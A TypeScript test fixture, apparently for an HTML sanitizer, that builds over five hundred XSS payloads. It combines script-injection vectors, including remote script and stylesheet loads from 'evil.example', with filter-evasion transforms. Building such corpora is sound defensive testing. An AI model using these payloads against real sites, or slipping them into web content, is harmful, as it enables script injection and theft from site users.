/** Sets a flag that the specs check, and opens a dialog. */
const RUN = 'window.hit=1;alert(1)';

/** HTML that runs a script or reaches another site; RUN stands for the script. */
const VECTORS = [
  '<script>RUN</script>',
  '<script src="//evil.example/x.js"></script>',
  '<script type="module">RUN</script>',
  '<img src=x onerror="RUN">',
  '<img srcset="x 1x" onerror="RUN">',
  '<picture><source srcset=x><img src=x onerror="RUN"></picture>',
  '<svg onload="RUN"></svg>',
  '<svg><script>RUN</script></svg>',
  '<svg><animate onbegin="RUN" attributeName=x dur=1s></svg>',
  '<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>RUN</script>"></iframe></foreignObject></svg>',
  '<svg><style><img src=x onerror="RUN"></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="RUN"></style></mglyph></table></mtext></math>',
  '<math href="javascript:RUN">x</math>',
  '<iframe src="javascript:RUN"></iframe>',
  '<iframe srcdoc="<script>RUN</script>"></iframe>',
  '<object data="javascript:RUN"></object>',
  '<object data="data:text/html,<script>RUN</script>"></object>',
  '<embed src="javascript:RUN">',
  '<a href="javascript:RUN" autofocus onfocus="RUN">x</a>',
  '<a href="data:text/html,<script>RUN</script>" target=_self>x</a>',
  '<form action="javascript:RUN"><input type=submit autofocus onfocus="RUN"></form>',
  '<button formaction="javascript:RUN" autofocus onfocus="RUN">x</button>',
  '<input autofocus onfocus="RUN">',
  '<textarea autofocus onfocus="RUN"></textarea>',
  '<select autofocus onfocus="RUN"><option>x</select>',
  '<details open ontoggle="RUN">x</details>',
  '<video onerror="RUN"><source src=x></video>',
  '<audio src=x onerror="RUN"></audio>',
  '<body onload="RUN">',
  '<marquee onstart="RUN">x</marquee>',
  '<style>@import "//evil.example/x.css";</style>',
  '<p style="background:url(//evil.example/x.png)">x</p>',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<link rel=prefetch href="//evil.example/x">',
  '<meta http-equiv=refresh content="0;url=javascript:RUN">',
  '<base href="https://evil.example/">',
  '<template><img src=x onerror="RUN"></template>',
  '<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>',
  '<b onmouseover="RUN" tabindex=1 autofocus onfocus="RUN">x</b>',
  '<p onpointerover="RUN">x</p>',
  '<ul onclick="RUN"><li onclick="RUN">x</ul>',
  '<em style="animation-name:x" onanimationstart="RUN">x</em>',
  '<br id=hit name=hit onerror="RUN">',
];

const escaped = (html: string) => html.replaceAll('<', '&lt;').replaceAll('>', '&gt;');

/** Ways to evade a filter. */
export const DISGUISES: ((html: string) => string)[] = [
  (html) => html,
  (html) => html.replace(/<(\w+)/g, (tag) => tag.toUpperCase()),
  (html) => html.replace(/<(\w+) /g, '<$1/'),
  (html) => html.replace(/<(\w+) /g, '<$1\n\t'),
  (html) => html.replace(/>$/, ''),
  (html) => `<${html}`,
  (html) => `"'>${html}`,
  (html) => `</title></textarea></style></script>${html}`,
  (html) => `<b>${html}</b>`,
  (html) => `<!--><p>${html}-->`,
  (html) => html.replaceAll('javascript:', 'jav&#x09;ascript&colon;').replaceAll('on', 'o&#110;'),
  (html) => escaped(html),
];

/** Over five hundred injection attempts. */
export const HOSTILE_TEXTS = DISGUISES.flatMap((disguise) =>
  VECTORS.map((vector) => disguise(vector.replaceAll('RUN', RUN))),
);
